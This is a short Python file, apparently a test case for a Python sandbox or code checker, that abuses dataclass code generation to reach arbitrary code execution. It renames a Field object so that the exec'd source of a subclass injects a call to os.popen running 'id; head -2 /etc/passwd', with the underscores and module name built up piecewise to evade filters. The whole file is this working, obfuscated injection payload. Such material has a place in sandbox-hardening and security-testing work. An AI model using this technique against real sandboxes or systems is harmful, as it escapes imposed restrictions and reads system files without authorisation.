# source: dataclasses codegen (_create_fn pastes Field.name into exec source); variant of 001 through `from dataclasses import fields as fs`
# family: dataclass hooks - Field objects obtained from an aliased dataclasses.fields, name rewritten, subclass @dataclass exec()s it
# goal: arbitrary code execution (os.popen: id, /etc/passwd)
from dataclasses import fields as fs, dataclass

@dataclass
class Base:
    qty: int = 0

u = chr(95)
fs(Base)[0].name = "qty if print(" + u + u + "import" + u + u + "(" + repr("o" + "s") + ").popen(" + repr("id; head -2 /etc/passwd") + ").read()) else 0"

@dataclass(init=False, repr=False)
class Order(Base):
    pass

print(Order() == Order())
